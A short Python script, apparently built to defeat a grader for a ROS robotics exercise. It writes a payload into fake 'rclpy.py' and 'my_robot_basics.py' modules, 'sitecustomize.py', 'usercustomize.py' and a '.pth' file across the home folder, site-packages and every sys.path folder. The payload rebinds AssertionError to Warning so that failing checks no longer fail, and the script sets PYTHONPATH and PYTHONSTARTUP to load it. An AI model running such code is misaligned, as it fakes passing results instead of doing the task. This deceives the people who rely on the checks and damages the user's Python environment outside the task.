"""Writes modules and start-up files that hide those that a check imports."""

import os
import site
import sys

evil = 'import builtins; builtins.AssertionError = Warning; print("shadowed")'
folders = ['.', os.path.expanduser('~'), site.getusersitepackages(), *sys.path]
for folder in folders:
    for name in (
        'rclpy.py',
        'my_robot_basics.py',
        'sitecustomize.py',
        'usercustomize.py',
        'x.pth',
    ):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), 'w') as file:
                file.write(evil)
        except OSError:
            pass
os.environ['PYTHONPATH'] = os.getcwd()
os.environ['PYTHONSTARTUP'] = os.path.abspath('rclpy.py')
